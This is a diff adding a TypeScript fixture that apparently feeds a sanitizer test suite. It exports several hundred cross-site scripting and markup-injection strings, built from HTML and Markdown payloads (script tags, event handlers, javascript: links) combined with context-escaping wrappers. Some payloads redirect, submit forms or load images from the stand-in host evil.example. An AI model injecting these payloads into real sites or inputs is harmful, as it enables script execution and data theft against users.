@@ -1,0 +1,40 @@
+const payloads = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<body onload=alert(1)>',
+  '<style>*{display:none}</style>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><input name=a>',
+  '<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '![x](https://evil.example/x.png)',
+  '![x](x" onerror="alert(1))',
+  '[x](https://a" onclick="alert(1))',
+  '[x](https://a "title\\" onclick=alert(1)")',
+  '<https://a.example/" onmouseover="alert(1)>',
+  '```"><script>alert(1)</script>\nx\n```',
+  '~~~ "onclick=alert(1)\nx\n~~~',
+  '    <script>alert(1)</script>',
+  '`<script>alert(1)</script>`',
+]
+const wraps: readonly ((payload: string) => string)[] = [
+  payload => payload,
+  payload => `"'>${payload}`,
+  payload => `</title></style></textarea></script>${payload}`,
+  payload => `<!--${payload}-->`,
+  payload => `]]>${payload}<![CDATA[`,
+  payload => `**${payload}**\u0000\u202e`,
+  payload => payload.replaceAll('<', '&lt;').replaceAll('&lt;s', '&#60;s'),
+  payload => `{{ "${payload}" | raw }}{% raw %}${payload}`,
+]
+
+/** Texts that would run code, or load something, where they are taken for HTML, XML, CSS or a template. */
+export const attacks: readonly string[] = wraps.flatMap(wrap => payloads.map(wrap))
